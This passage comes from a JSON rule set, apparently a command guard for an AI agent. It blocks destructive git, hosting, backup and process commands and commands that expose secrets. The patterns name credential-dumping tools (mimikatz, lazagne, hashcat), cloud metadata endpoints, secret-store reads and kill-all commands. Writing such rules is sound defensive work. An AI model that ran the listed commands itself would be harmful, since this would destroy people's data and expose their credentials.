ete-branch","category":"git","severity":"severe","explanation":"This deletes a branch even if its commits are nowhere else. git branch -d deletes merged ones.",\
"trust":3,"spares":["own-act"],"match":[{"program":["git"],"subcommand":["branch"],"flags":{"any":["-D"]}},{"program":["git"],"subcommand":["branch"],"flags":{"\
all":["-d","-f"]}},{"program":["git"],"subcommand":["branch"],"flags":{"all":["--delete","--force"]}},{"program":["git"],"subcommand":["branch"],"flags":{"all":\
["-d","--force"]}},{"program":["git"],"subcommand":["branch"],"flags":{"all":["--delete","-f"]}}]},{"code":"destructive_operation_blocked","id":"git-discard-cha\
nges","category":"git","severity":"severe","explanation":"This throws uncommitted changes of many files away. Use git stash, or name the files that are meant.",\
"trust":3,"spares":["own-act"],"match":[{"program":["git"],"subcommand":["checkout"],"flags":{"any":["-f","--force"]}},{"program":["git"],"subcommand":["switch"\
],"flags":{"any":["-f","--force","--discard-changes"]}},{"program":["git-discard"],"names":["workspace","source","personal","home","root"]},{"program":["git"],"\
subcommand":["checkout-index"],"flags":{"all":["-f","-a"]}},{"program":["git"],"subcommand":["checkout-index"],"flags":{"all":["-f","--all"]}},{"program":["git"\
],"subcommand":["checkout-index"],"flags":{"all":["--force","-a"]}},{"program":["git"],"subcommand":["checkout-index"],"flags":{"all":["--force","--all"]}},{"pr\
ogram":["git"],"subcommand":["read-tree"],"flags":{"any":["--reset"],"all":["-u"]}},{"program":["git"],"subcommand":["submodule deinit"],"flags":{"any":["-f","-\
-force","--all"]}},{"program":["git"],"subcommand":["submodule update"],"flags":{"any":["-f","--force"]}},{"program":["git"],"subcommand":["apply"],"flags":{"an\
y":["-R","--reverse"]},"from":{"program":["git"]},"line":{"any":["git diff","git diff HEAD","git diff -*"]}}]},{"code":"destructive_operation_blocked","id":"git\
-discard-file","category":"git","severity":"severe","explanation":"This throws the uncommitted changes of a file away. Use git stash push FILE, or ask the perso\
n.","trust":3,"level":"strict","spares":["own-act"],"match":[{"program":["git-discard-file"],"names":["workspace","source","inner","personal","outside","home","\
unknown"]},{"program":["git"],"subcommand":["rm"],"flags":{"any":["-f","--force"],"none":["--cached"]}},{"program":["git"],"subcommand":["update-index"],"flags"\
:{"any":["--force-remove"]}},{"program":["svn","hg"],"subcommand":["revert"]}]},{"code":"destructive_operation_blocked","id":"git-abort","category":"git","sever\
ity":"severe","explanation":"This throws away how conflicts were resolved, and what was not committed before. Ask the person.","trust":3,"level":"strict","spare\
s":["own-act"],"match":[{"program":["git"],"subcommand":["merge","rebase","cherry-pick","revert","am"],"flags":{"any":["--abort"]}}]},{"code":"destructive_opera\
tion_blocked","id":"git-delete-tag","category":"git","severity":"severe","explanation":"A deleted or moved tag is gone, with its message and signature. Ask the \
person.","trust":3,"level":"strict","spares":["own-act"],"match":[{"program":["git"],"subcommand":["tag"],"flags":{"any":["-d","--delete","-f","--force"]}}]},{"\
code":"destructive_operation_blocked","id":"git-drop-stash","category":"git","severity":"severe","explanation":"A dropped stash is gone. Leave it; it costs noth\
ing.","trust":3,"spares":["own-act"],"match":[{"program":["git"],"subcommand":["stash drop","stash clear"]}]},{"code":"destructive_operation_blocked","id":"git-\
rewrite-history","category":"git","severity":"severe","explanation":"This rewrites the history of the whole repository. Make a commit that changes what has to c\
hange.","trust":4,"spares":["own-act"],"match":[{"program":["git"],"subcommand":["filter-branch","filter-repo","replace"],"flags":{"none":["-l","--list","--anal\
yze"]}},{"program":["git-filter-repo","git-filter-branch","bfg"],"flags":{"none":["--help","--analyze"]}},{"program":["java"],"options":{"-jar":["*bfg*.jar"]}},\
{"program":["git"],"subcommand":["rebase"],"flags":{"any":["--root"]}},{"program":["git"],"subcommand":["fast-import"],"flags":{"any":["--force"]}},{"program":[\
"hg"],"subcommand":["strip","histedit","convert"]}]},{"code":"destructive_operation_blocked","id":"git-expire-objects","category":"git","severity":"severe","exp\
lanation":"This deletes what could still bring commits back. git gc without options keeps it for two weeks.","trust":4,"spares":["own-act"],"match":[{"program":\
["git"],"subcommand":["reflog delete"]},{"program":["git"],"subcommand":["reflog expire"],"level":"strict"},{"program":["git"],"subcommand":["reflog expire"],"o\
ptions":{"--expire":["-*","now","all","*.now","0*","today","*second*","*minute*","*\\ufffc*"]}},{"program":["git"],"subcommand":["reflog expire"],"options":{"--e\
xpire-unreachable":["-*","now","all","*.now","0*","today","*second*","*minute*","*\\ufffc*"]}},{"program":["git"],"subcommand":["gc"],"options":{"--prune":["-*",\
"now","all","*.now","0*","today","*second*","*minute*","*\\ufffc*"]}},{"program":["git"],"subcommand":["prune"],"flags":{"none":["--expire"]}},{"program":["git"]\
,"subcommand":["prune"],"options":{"--expire":["-*","now","all","*.now","0*","today","*second*","*minute*","*\\ufffc*"]}},{"program":["jj"],"subcommand":["util g\
c"],"options":{"--expire":["-*","now","all","*.now","0*","today","*second*","*minute*","*\\ufffc*"]}}]},{"code":"destructive_operation_blocked","id":"git-delete-\
ref","category":"git","severity":"severe","explanation":"This deletes a reference by hand, below what git checks. Use git branch -d or git tag -d.","trust":4,"s\
pares":["own-act"],"match":[{"program":["git"],"subcommand":["update-ref","symbolic-ref"],"flags":{"any":["-d","--delete","--stdin"]}}]},{"code":"destructive_op\
eration_blocked","id":"git-remove-worktree","category":"git","severity":"severe","explanation":"This removes a worktree with its uncommitted changes. Without --\
force git refuses while there are any.","trust":3,"spares":["own-act"],"match":[{"program":["git"],"subcommand":["worktree remove"],"flags":{"any":["-f","--forc\
e"]}}]},{"code":"destructive_operation_blocked","id":"git-remove-tracked","category":"git","severity":"severe","explanation":"This deletes tracked files in whol\
e folders, changed ones too. Name the files, without -f.","trust":3,"spares":["own-act"],"match":[{"program":["git"],"subcommand":["rm"],"flags":{"none":["--cac\
hed"]},"moves":["workspace","root","home"]},{"program":["git"],"subcommand":["rm"],"flags":{"any":["-f","--force"],"none":["--cached"]},"recursive":true,"moves"\
:["source"]}]},{"code":"destructive_operation_blocked","id":"other-vcs-discard","category":"git","severity":"severe","explanation":"This throws uncommitted chan\
ges of the whole working copy away. Name the file that is meant.","trust":3,"match":[{"program":["hg"],"subcommand":["update","up","checkout"],"flags":{"any":["\
-C","--clean"]}},{"program":["hg"],"subcommand":["purge","clean"]},{"program":["hg"],"subcommand":["revert"],"flags":{"any":["--all","-a"]}},{"program":["svn"],\
"subcommand":["revert"],"recursive":true},{"program":["svn"],"subcommand":["cleanup"],"flags":{"any":["--remove-unversioned"]}},{"program":["jj"],"subcommand":[\
"abandon","op abandon"]},{"program":["jj"],"subcommand":["restore"],"args":{"any":["."]}},{"program":["jj"],"subcommand":["restore"],"args":{"at_most":0}},{"pro\
gram":["git"],"subcommand":["annex drop"],"flags":{"any":["--force"]}},{"program":["p4"],"subcommand":["obliterate","clean"]},{"program":["p4"],"subcommand":["r\
evert"],"args":{"any":["*...","*...#*"]}},{"program":["bzr","brz"],"subcommand":["revert"],"args":{"at_most":0}},{"program":["bzr","brz"],"subcommand":["clean-t\
ree"],"flags":{"any":["--force"]}},{"program":["fossil"],"subcommand":["revert"],"args":{"at_most":0}},{"program":["fossil"],"subcommand":["clean"],"flags":{"an\
y":["--force","-f","--extra","-x","--emptydirs"]}},{"program":["darcs"],"subcommand":["revert","obliterate"],"flags":{"any":["-a","--all"]}}]},{"code":"destruct\
ive_operation_blocked","id":"hosting-delete","category":"git","severity":"severe","explanation":"This deletes or exposes something on the hosting service for ev\
erybody. Ask the person who owns it.","trust":4,"match":[{"program":["gh","glab","hub","tea"],"subcommand":["repo delete","release delete","release delete-asset\
","secret delete","secret remove","secret set","variable delete","workflow disable","repo rename","repo archive","ssh-key add","gpg-key add","repo deploy-key ad\
d"]},{"program":["gh","glab"],"subcommand":["api"],"options":{"-X":["DELETE","delete"]}},{"program":["gh","glab"],"subcommand":["api"],"options":{"--method":["D\
ELETE","delete"]}},{"program":["gh","glab"],"subcommand":["api"],"options":{"-X":["PATCH","patch","PUT","put"]},"args":{"any":["*/git/refs/*","*/collaborators/*\
","*/memberships/*","*/protection*","*/hooks*"]}},{"program":["gh","glab"],"subcommand":["api"],"options":{"--method":["PATCH","patch","PUT","put"]},"args":{"an\
y":["*/git/refs/*","*/collaborators/*","*/memberships/*","*/protection*","*/hooks*"]}},{"program":["gh"],"subcommand":["api graphql"],"options":{"-f":["query=*m\
utation*delete*","query=*mutation*updateRef*"]}},{"program":["java"],"options":{"-jar":["*jenkins-cli.jar"]},"args":{"any":["delete-*","disable-*","quiet-down",\
"safe-*","restart","shutdown"],"none":["get-*","list-*","build"]}},{"program":["curl","wget","http","xh"],"args":{"any":["*/doDelete","*/doDelete?*","*/doWipeOu\
tWorkspace*"]}},{"program":["gh"],"subcommand":["repo edit"],"options":{"--visibility":["public"]}},{"program":["gh"],"subcommand":["pr merge"],"flags":{"any":[\
"--admin"]}}]},{"code":"credential_file_protected","id":"credential-file","category":"credentials","severity":"severe","explanation":"This file holds secrets. A\
sk a person for what you need of it; names without values stand in the template beside it.","match":[{"reads":["credentials"]},{"writes":["credentials"]},{"writ\
es":["from-template"],"level":"strict"},{"reads":["handed-over"],"level":"strict"},{"reads":["handed-over"],"line":{"any":["echo *\\ufffc*","printf *\\ufffc*","en\
v","env | *","printenv*","set","export","export -p","declare -*","typeset -*","set -x*","set -*x","set -*x *","curl *","wget *","nc *","ncat *","http *"]}},{"de\
letes":["credentials"]},{"moves":["credentials"]}]},{"code":"credential_file_protected","id":"credential-named-file","category":"credentials","severity":"severe\
","explanation":"Files with \\"credentials\\" in their name are not edited by tools. Ask a person to make this change.","match":[{"program":["edit-tool"],"writes"\
:["credentials-by-name"]}]},{"code":"credential_file_protected","id":"read-accounts","category":"credentials","severity":"risky","explanation":"This reads the a\
ccounts of the machine. id and whoami tell about yourself.","match":[{"reads":["account-secrets"]},{"reads":["accounts"],"to":"remote"},{"reads":["accounts"],"l\
ine":{"any":["curl *","wget *","nc *","ncat *","scp *","ssh *","mail *","http *"]}},{"program":["curl","http","https","wget","xh","xhs","nc","ncat","netcat","so\
cat","telnet","openssl","mail","mailx","sendmail","mutt","ssh","ftp","tftp","sftp","lftp","websocat","pastebinit","scp","rsync","gh"],"reads":["accounts"]},{"pr\
ogram":["getent"],"args":{"any":["shadow","gshadow"]}}]},{"code":"credential_file_protected","id":"secret-store","category":"credentials","severity":"severe","e\
xplanation":"This prints a secret out of its store. Programs that need it can be given it without you seeing it.","match":[{"program":["docker","podman","nerdct\
l"],"subcommand":["inspect"],"line":{"any":["*inspect*.Config.Env*"]}},{"program":["docker","podman","nerdctl"],"subcommand":["exec"],"args":{"any":["env","prin\
tenv"],"at_most":2}},{"program":["aws"],"subcommand":["secretsmanager get-secret-value","secretsmanager batch-get-secret-value","configure get","configure expor\
t-credentials","sso get-role-credentials","sts get-session-token","sts assume-role","ecr get-login-password","iam create-access-key"]},{"program":["aws"],"subco\
mmand":["apigateway get-api-key*"],"flags":{"any":["--include-value","--include-values"]}},{"program":["aws"],"subcommand":["ssm get-parameter*"],"flags":{"any"\
:["--with-decryption"]}},{"program":["gcloud"],"subcommand":["secrets versions access","auth print-*","auth application-default print-*","iam service-accounts k\
eys create"]},{"program":["az"],"subcommand":["keyvault secret show","keyvault secret download","account get-access-token","* keys list","* * keys list","ad sp \
create*"]},{"program":["vault","bao"],"subcommand":["kv get","read","token lookup","token create","operator *"]},{"program":["kubectl","oc"],"subcommand":["get \
secret*","get *,secret*","describe secret*"],"options":{"-o":["y*","Y*","j*","J*","g*","t*","*.data*","*-file*","*.\\\\**","*@*","*[*","*..*","*\\ufffc*"]}},{"prog\
ram":["kubectl","oc"],"subcommand":["get secret*","get *,secret*","describe secret*"],"options":{"--output":["y*","Y*","j*","J*","g*","t*","*.data*","*-file*","\
*.\\\\**","*@*","*[*","*..*","*\\ufffc*"]}},{"program":["kubectl","oc"],"subcommand":["get secret*","get *,secret*","describe secret*"],"flags":{"any":["--template\
"]}},{"program":["kubectl","oc"],"subcommand":["config view"],"flags":{"any":["--raw"]}},{"program":["kubectl","oc"],"subcommand":["create token"]},{"program":[\
"ssh-keygen"],"flags":{"any":["-p","-e"]}},{"program":["gh"],"subcommand":["auth token"]},{"program":["gh"],"subcommand":["auth status"],"flags":{"any":["-t","-\
-show-token"]}},{"program":["op"],"subcommand":["read","item get","document get"]},{"program":["pass","gopass"],"subcommand":["show","grep"]},{"program":["bw"],\
"subcommand":["get","export","list"]},{"program":["lpass","rbw","dcli","bws"],"subcommand":["show","export","get","read","note","password","secret get","secret \
list"]},{"program":["keepassxc-cli"],"subcommand":["show","export","clip"]},{"program":["chamber","berglas","akeyless","infisical","conjur"],"subcommand":["read\
","export","access","get-secret-value","secrets","secrets get","variable get"]},{"program":["ps"],"args":{"any":["auxe*","axe*","eww*","auxwwe*","axewww*"]}},{"\
program":["grep","egrep","fgrep","rg"],"from":{"program":["env","printenv","set","export","declare","history"]},"args":{"any":["*pass*","*secret*","*token*","*c\
redential*","*PASS*","*SECRET*","*TOKEN*","*CREDENTIAL*","*api_key*","*API_KEY*","*apikey*","*access_key*"]}},{"program":["Get-StoredCredential","Get-Secret"]},\
{"program":["curl","http","https","wget","xh","xhs"],"args":{"any":["*/scriptText","*/script"]},"line":{"any":["*script=*.plainText*","*script=*.getPlainText()*\
","*script=*Secret.decrypt(*","*script=*.getSecret()*"]}},{"program":["wp","wp-cli","wp-cli.phar"],"subcommand":["config get"],"args":{"any":["*PASSWORD*","*_KE\
Y","*_SALT"]}},{"program":["rails","bin/rails"],"subcommand":["credentials:show","credentials:edit","encrypted:show","encrypted:edit"]},{"program":["reg"],"subc\
ommand":["save"],"args":{"any":["*SAM","*SECURITY","*SYSTEM","*sam","*security"]}},{"program":["aws"],"subcommand":["lambda get-function-configuration","lambda \
get-function"],"options":{"--query":["*Environment*"]}},{"program":["terraform","tofu"],"subcommand":["state pull"],"line":{"any":["jq *password*","jq *secret*"\
,"grep *pass*","grep *secret*"]}},{"program":["systemd-creds"],"subcommand":["decrypt","cat"]},{"program":["secrethub"],"subcommand":["read","inject"]},{"progra\
m":["kwallet-query"],"flags":{"any":["-r","--read-password"]}},{"program":["klist"],"flags":{"any":["-K"]}},{"program":["nmcli"],"flags":{"any":["-s","--show-se\
crets"]}},{"program":["keytool"],"flags":{"any":["-importkeystore"]}},{"program":["fly","flyctl"],"subcommand":["auth token","tokens create"]},{"program":["glab\
"],"subcommand":["auth status"],"flags":{"any":["-t","--show-token"]}},{"program":["netlify","ntl"],"subcommand":["env:list","env:get"]},{"program":["railway"],\
"subcommand":["variables","variable list"]},{"program":["heroku"],"subcommand":["pg:credentials:url","redis:credentials"]},{"program":["pulumi"],"subcommand":["\
config","stack"],"flags":{"any":["--show-secrets","--show"]}},{"program":["convex"],"subcommand":["env list","env get"]},{"program":["yadm","git-crypt","transcr\
ypt"],"subcommand":["decrypt"]},{"program":["terraform","tofu","terragrunt"],"subcommand":["output"],"args":{"any":["*password*","*secret*","*token*","*_key","*\
credential*"]}},{"program":["age","rage"],"flags":{"any":["-d","--decrypt"]}},{"program":["gpg","gpg2"],"flags":{"any":["-d","--decrypt"]},"args":{"any":["*secr\
et*","*pass*","*.env*","*cred*","*key*","*token*"]}},{"program":["rclone"],"subcommand":["config show","config dump","config file"]},{"program":["security"],"su\
bcommand":["find-*-password","dump-keychain","export"]},{"program":["secret-tool"],"subcommand":["lookup","search"]},{"program":["gpg","gpg2"],"flags":{"any":["\
--export-secret-keys","--export-secret-subkeys"],"none":["--export"]}},{"program":["git"],"subcommand":["credential fill","credential-store get","credential-cac\
he get"]},{"program":["git-credential-*","docker-credential-*"],"subcommand":["get","list","fill"]},{"program":["npm"],"subcommand":["token create","token list"\
,"config get *authToken*","config get //*"]},{"program":["heroku"],"subcommand":["auth:token","config","config:get"]},{"program":["doppler"],"subcommand":["secr\
ets","secrets get","secrets download"]},{"program":["vercel"],"subcommand":["env pull"]},{"program":["sops","ansible-vault"],"subcommand":["decrypt","view","edi\
t"]},{"program":["sops"],"flags":{"any":["-d","--decrypt"]}},{"program":["printenv"],"args":{"any":["*TOKEN*","*SECRET*","*PASSWORD*","*PASSWD*","*_KEY","*CREDE\
NTIAL*","DATABASE_URL"]}},{"program":["curl","wget","http"],"args":{"any":["*169.254.169.254*","*metadata.google.internal*","*169.254.170.2*","*fd00:ec2::254*"]\
}},{"program":["curl","http"],"line":{"any":["*script=*lookupCredentials*","*script=*Credentials*plainText*","*script=*Secret.decrypt*"]}},{"program":["mimikatz\
","lazagne","hashdump","unshadow","trufflehog-dump"]},{"program":["python"],"args":{"any":["*laZagne*","*lazagne*","*mimipenguin*","*LinEnum*","*secretsdump*"]}\
},{"program":["john","hashcat","hydra"],"flags":{"none":["--list","--help","-h","--version","-V","-I","--backend-info","--example-hashes","-U"]}}]},{"code":"cre\
dential_file_protected","id":"read-memory","category":"credentials","severity":"severe","explanation":"The memory of another process holds its secrets. Debug th\
e program that you started, or a core of it.","match":[{"program":["gcore","procdump","minidump","lsassy","pypykatz"]},{"program":["gdb"],"options":{"-ex":["gen\
erate-core*","gcore*","dump *","*dump memory*","x/*s *"]},"flags":{"any":["-p","-pid","--pid"]}},{"program":["strace","ltrace"],"flags":{"any":["-p","--attach"]\
},"line":{"any":["* -e read*","* -e write*","* -e trace=read*","* -e trace=write*","* trace=*read*","* -s *"]}},{"program":["jmap"],"args":{"any":["*dump*"]}},{\
"program":["jmap"],"line":{"any":["jmap *-dump*"]}},{"program":["jcmd"],"args":{"any":["GC.heap_dump"]}}]},{"code":"credential_file_protected","id":"destroy-sec\
ret","category":"credentials","severity":"severe","explanation":"This deletes or replaces a secret, or deletes the store that keeps it; what uses it stops worki\
ng. The person who owns it does that.","spares":["own-data","own-act"],"match":[{"program":["vault","bao"],"subcommand":["delete","kv delete","kv destroy","kv m\
etadata delete","secrets disable","auth disable","lease revoke","policy delete","transit delete"]},{"program":["op"],"subcommand":["* delete","* rm","* remove",\
"user suspend"]},{"program":["doppler"],"subcommand":["* delete","configs tokens revoke"]},{"program":["pass","gopass","lpass"],"subcommand":["rm","remove","del\
ete"]},{"program":["bw"],"subcommand":["delete","purge"]},{"program":["keepassxc-cli"],"subcommand":["rm","rmdir","db-remove"]},{"program":["security"],"subcomm\
and":["delete-*"]},{"program":["secret-tool"],"subcommand":["clear"]},{"program":["keyctl"],"subcommand":["revoke","unlink","clear","purge","invalidate"]},{"pro\
gram":["cmdkey"],"args":{"any":["/delete*"]}},{"program":["gpg","gpg2"],"flags":{"any":["--delete-secret-keys","--delete-secret-and-public-key","--delete-secret\
-key"]}},{"program":["infisical","chamber","credstash","berglas"],"subcommand":["delete","secrets delete","deleteall"]},{"program":["aws"],"subcommand":["secret\
smanager delete-*","secretsmanager update-secret","ssm delete-parameter*","kms schedule-key-deletion","kms delete-*"]},{"program":["aws"],"subcommand":["configu\
re set aws_*"],"flags":{"none":["--profile"]}},{"program":["gcloud"],"subcommand":["secrets delete","secrets versions destroy","kms keys versions destroy"]},{"p\
rogram":["az"],"subcommand":["keyvault delete","keyvault purge","keyvault * delete","keyvault * purge","keyvault * delete-*"]},{"program":["kubectl","oc"],"subc\
ommand":["delete secret*","delete *,secret*"]},{"program":["docker","podman"],"subcommand":["secret rm","secret remove"]},{"program":["gh","glab"],"subcommand":\
["secret delete","secret remove","variable delete"]},{"program":["heroku"],"subcommand":["config:unset","config:remove"]},{"program":["fly","flyctl"],"subcomman\
d":["secrets unset"]},{"program":["vercel","now"],"subcommand":["env rm","env remove"]},{"program":["netlify"],"subcommand":["env:unset"]},{"program":["railway"\
],"subcommand":["variables delete","variable delete"]},{"program":["wrangler"],"subcommand":["secret delete","secret bulk delete"]},{"program":["supabase"],"sub\
command":["secrets unset"]},{"program":["firebase"],"subcommand":["functions:secrets:destroy"]},{"program":["curl","http","xh"],"args":{"any":["*:8200/v1/*","*/\
v1/secret/*"]},"options":{"-X":["DELETE"]}},{"program":["curl","http","xh"],"args":{"any":["*:8200/v1/*","*/v1/secret/*"]},"options":{"--request":["DELETE"]}}]}\
,{"code":"credential_file_protected","id":"search-for-secrets","category":"credentials","severity":"severe","explanation":"This searches homes or the whole mach\
ine for secrets, or copies them. Keep to the workspace.","match":[{"program":["grep","egrep","fgrep","rg","ag","ack","zgrep","ugrep"],"args":{"any":["*passw*","\
*secret*","*token*","*credential*","*api*key*","*private*key*","*access*key*","*AKIA*","*ghp_*","*BEGIN *","*PASSW*","*SECRET*","*TOKEN*","*CREDENTIAL*","*KEY*"\
,"*Passw*","*Secret*","*Token*","*sk-*","*xox*","*pwd*","*\\ufffc*"]},"reads":["root","home"]},{"program":["grep","egrep","fgrep","rg","ag","ack","zgrep","ugrep"\
],"args":{"any":["sk-*","*(sk-*","*|sk-*","*\\"sk-*","*AKIA*","*ghp_*","xox*","*BEGIN*PRIVATE*"]},"reads":["personal","startup","system"]},{"program":["grep","eg\
rep","fgrep","rg","ugrep"],"options":{"-e":["*passw*","*secret*","*token*","*credential*","*api*key*","*private*key*","*access*key*","*AKIA*","*ghp_*","*BEGIN *\
","*PASSW*","*SECRET*","*TOKEN*","*CREDENTIAL*","*KEY*","*Passw*","*Secret*","*Token*","*sk-*","*xox*","*pwd*","*\\ufffc*"]},"reads":["root","home"]},{"program":\
["grep","egrep","fgrep","rg","ugrep"],"options":{"--regexp":["*passw*","*secret*","*token*","*credential*","*api*key*","*private*key*","*access*key*","*AKIA*","\
*ghp_*","*BEGIN *","*PASSW*","*SECRET*","*TOKEN*","*CREDENTIAL*","*KEY*","*Passw*","*Secret*","*Token*","*sk-*","*xox*","*pwd*","*\\ufffc*"]},"reads":["root","ho\
me"]},{"program":["grep","egrep","fgrep","rg","ugrep"],"args":{"any":["*passw*","*secret*","*token*","*credential*","*api*key*","*private*key*","*access*key*","\
*AKIA*","*ghp_*","*BEGIN *","*PASSW*","*SECRET*","*TOKEN*","*CREDENTIAL*","*KEY*","*Passw*","*Secret*","*Token*","*sk-*","*xox*","*pwd*","*\\ufffc*"]},"recursive\
":true,"reads":["system"]},{"program":["locate","plocate","mlocate","mdfind"],"names":["credentials"]},{"program":["git"],"subcommand":["log"],"options":{"-S":[\
"*PRIVATE KEY*","*AKIA*","*ghp_*"]}},{"program":["git"],"subcommand":["log"],"options":{"-G":["*PRIVATE KEY*","*AKIA*","*ghp_*"]}},{"program":["trufflehog","git\
leaks"],"names":["root","home"]},{"program":["tar","zip","7z","rsync","scp","bsdtar"],"reads":["root","home"]},{"program":["cp"],"recursive":true,"reads":["root\
","home"]},{"program":["find","fd","locate"],"names":["credentials"],"args":{"any":["/","~","~/*","/home*","/root*","/etc*","/var*","/Users*","/opt*"],"none":["\
~/*/*","/home/*/*","/Users/*/*"]}},{"program":["find","fd"],"names":["credentials"],"args":{"any":["/","~","~/","/home","/home/","/Users","/Users/","/root","/et\
c","/var","/opt","*/..*"]}},{"program":["find","fd"],"names":["credentials"],"args":{"any":["~/.*","/home/*/.*","/Users/*/.*"]}}]},{"code":"destructive_operatio\
n_blocked","id":"destroy-backup","category":"backups","severity":"severe","explanation":"This deletes backups or snapshots, which is what others fall back on. L\
ook with --dry-run; the person who owns them deletes them.","match":[{"program":["borg","attic"],"subcommand":["delete","prune","rdelete","repo-delete"]},{"prog\
ram":["borgmatic"],"subcommand":["prune","delete","repo-delete"]},{"program":["restic","rustic"],"subcommand":["forget","prune"]},{"program":["restic","rustic"]\
,"subcommand":["rewrite"],"flags":{"any":["--forget"]}},{"program":["duplicity"],"args":{"any":["remove-older-than","remove-all-but-n-full","remove-all-inc-of-b\
ut-n-full","cleanup"]},"flags":{"any":["--force"]}},{"program":["duplicacy"],"subcommand":["prune"]},{"program":["kopia"],"subcommand":["snapshot delete","snaps\
hot expire"],"flags":{"any":["--delete"]}},{"program":["tarsnap"],"flags":{"any":["-d","--nuke"]}},{"program":["bup"],"subcommand":["rm","gc","prune-older"]},{"\
program":["rdiff-backup"],"flags":{"any":["--remove-older-than"]}},{"program":["rdiff-backup"],"args":{"any":["remove"]}},{"program":["proxmox-backup-client"],"\
subcommand":["snapshot forget","prune"]},{"program":["wal-g"],"subcommand":["delete"],"flags":{"any":["--confirm"]}},{"program":["wal-e"],"subcommand":["delete"\
],"flags":{"any":["--confirm"]}},{"program":["pgbackrest"],"subcommand":["expire","stanza-delete"]},{"program":["pgbackrest"],"args":{"any":["expire","stanza-de\
lete"]}},{"program":["barman"],"subcommand":["delete"]},{"program":["pbm"],"subcommand":["delete-backup","delete-pitr","cleanup"]},{"program":["velero"],"subcom\
mand":["backup delete","delete backup","backup-location delete"]},{"program":["snapper"],"args":{"any":["delete","rm","remove"]}},{"program":["timeshift"],"flag\
s":{"any":["--delete","--delete-all"]}},{"program":["tmutil"],"subcommand":["delete","deletelocalsnapshots","thinlocalsnapshots","removedestination"]},{"program\
":["vssadmin"],"subcommand":["delete shadows","Delete Shadows","resize shadowstorage"]},{"program":["wbadmin"],"subcommand":["delete *","disable backup"]},{"pro\
gram":["wmic"],"subcommand":["shadowcopy delete"]},{"program":["virsh"],"subcommand":["snapshot-delete","checkpoint-delete"]},{"program":["qm","pct"],"subcomman\
d":["delsnapshot"]},{"program":["nodetool"],"subcommand":["clearsnapshot"]},{"program":["aws"],"subcommand":["backup delete-*","* delete-*snapshot*","* delete-*\
backup*"]},{"program":["gcloud"],"subcommand":["* snapshots delete","* backups delete","* * snapshots delete","* * backups delete"]},{"program":["az"],"subcomma\
nd":["snapshot delete","backup * delete","backup protection disable","* * *backup delete"]},{"program":["heroku"],"subcommand":["pg:backups:delete"]},{"program"\
:["doctl"],"subcommand":["compute snapshot delete","databases backups delete"]},{"program":["openstack"],"subcommand":["volume snapshot delete","volume backup d\
elete"]},{"program":["kubectl","oc"],"subcommand":["delete volumesnapshot*","delete backup*","delete vs"]}]},{"code":"destructive_operation_blocked","id":"kill-\
everything","category":"processes","severity":"catastrophic","explanation":"This ends all processes, or the first one, on which all others rest. End the process\
 that you started, by its id.","match":[{"program":["kill"],"args":{"any":["-1","1"]},"flags":{"none":["-0","-l","-L","-HUP","-SIGHUP","-USR1","-USR2","-CONT","\
-WINCH"]},"line":{"none":["docker *","podman *","kubectl *","nerdctl *"]}},{"program":["kill"],"flags":{"all":["-9","-1"]}},{"program":["kill"],"flags":{"all":[\
"-KILL","-1"]}},{"program":["kill"],"flags":{"all":["-SIGKILL","-1"]}},{"program":["kill"],"flags":{"all":["-15","-1"]}},{"program":["kill"],"flags":{"all":["-T\
ERM","-1"]}},{"program":["kill"],"flags":{"all":["-1","-s"]}},{"program":["kill"],"flags":{"all":["-1"]},"args":{"at_most":0}},{"program":["killall5"]},{"progra\
m":["pm2"],"subcommand":["delete all","stop all","kill"]},{"program":["end-process"],"args":{"any":["\\\\*"]}},{"program":["loginctl"],"subcommand":["terminate-*"\
,"kill-*"]},{"program":["kill"],"args":{"any":["*\\\\**","/proc/*"]}},{"program":["kill"],"args":{"any":["*\\ufffc*"]},"line":{"any":["pgrep .","pgrep -? .","pgrep\
 -f ","pgrep ","pgrep -* .","pgrep .\\\\*","pgrep -* .\\\\*","pgrep ^","pgrep -* ^","pgrep -v *","pgrep -u root","pgrep -U root","pgrep -U 0","pgrep -u \\ufffc","pgr\
ep -U \\ufffc","ls /proc","ls /proc/","ls -* /proc","ls -* /proc/","ls /proc/[*","ls -* /proc/[*","ls /proc/\\\\*","ls -* /proc/\\\\*","find /proc*"]}},{"program":["\
kill"],"via":["xargs","parallel"],"line":{"any":["pgrep .","pgrep -? .","pgrep -f ","pgrep ","pgrep -* .","pgrep .\\\\*","pgrep -* .\\\\*","pgrep ^","pgrep -* ^","p\
grep -v *","pgrep -u root","pgrep -U root","pgrep -U 0","pgrep -u \\ufffc","pgrep -U \\ufffc","ls /proc","ls /proc/","ls -* /proc","ls -* /proc/","ls /proc/[*","l\
s -* /proc/[*","ls /proc/\\\\*","ls -* /proc/\\\\*","find /proc*"]}},{"program":["pkill","killall","skill","slay"],"flags":{"any":["-u","-U","--euid","--uid","--use\
r"]},"args":{"at_most":0}},{"program":["pkill"],"args":{"any":[".",".\\\\*","","^","^.\\\\*",".+","[a-z]","/"]}},{"program":["killall"],"args":{"any":["-r"]}},{"pro\
gram":["killall"],"flags":{"any":["-r","--regexp"]},"args":{"any":[".",".*"]}}]},{"code":"destructive_operation_blocked","id":"kill-service","category":"process\
es","severity":"severe","explanation":"This ends a service that others rely on. End the process that you started, by its id.","trust":4,"match":[{"program":["en\
d-process"],"args":{"any":["systemd*","init","sshd","ssh","dockerd","docker","containerd","kubelet","cron","crond","rsyslogd","auditd","NetworkManager","dbus*",\
"Xorg","gnome-shell","explorer.exe","Finder","loginwindow","launchd","WindowServer","mysqld","mariadbd","postgres*","nginx","apache2","httpd","mongod","redis-se\
rver","udevd","login","firefox","chrome","google-chrome","supervisord","php-fpm","haproxy","named","ntpd","polkitd"]}},{"program":["systemctl","rc-service","ini\
tctl"],"subcommand":["stop","kill","mask","disable","isolate","suspend","hibernate"]},{"program":["rc-service"],"subcommand":["* stop","* zap"]},{"program":["St\
op-Service"]},{"program":["service"],"args":{"any":["stop"]}},{"program":["launchctl"],"subcommand":["unload","bootout","remove","kill"]},{"program":["tmux","sc\
reen"],"subcommand":["kill-server"]},{"program":["tmux"],"subcommand":["kill-session"],"flags":{"any":["-a"]}},{"program":["sc","net"],"subcommand":["stop","del\
ete"]}]},{"code":"destructive_operation_blocked","id":"kill-unnamed","category":"processes","severity":"severe","explanation":"Nobody can say before which proce\
sses this ends. End the process that you started, by its id.","trust":3,"match":[{"program":["pkill","killall"],"args":{"any":["\\ufffc"]},"language":["python","\
javascript","perl","ruby","php"]}]},{"code":"destructive_operation_blocked","id":"turn-off-machine","category":"processes","severity":"catastrophic","explanatio\
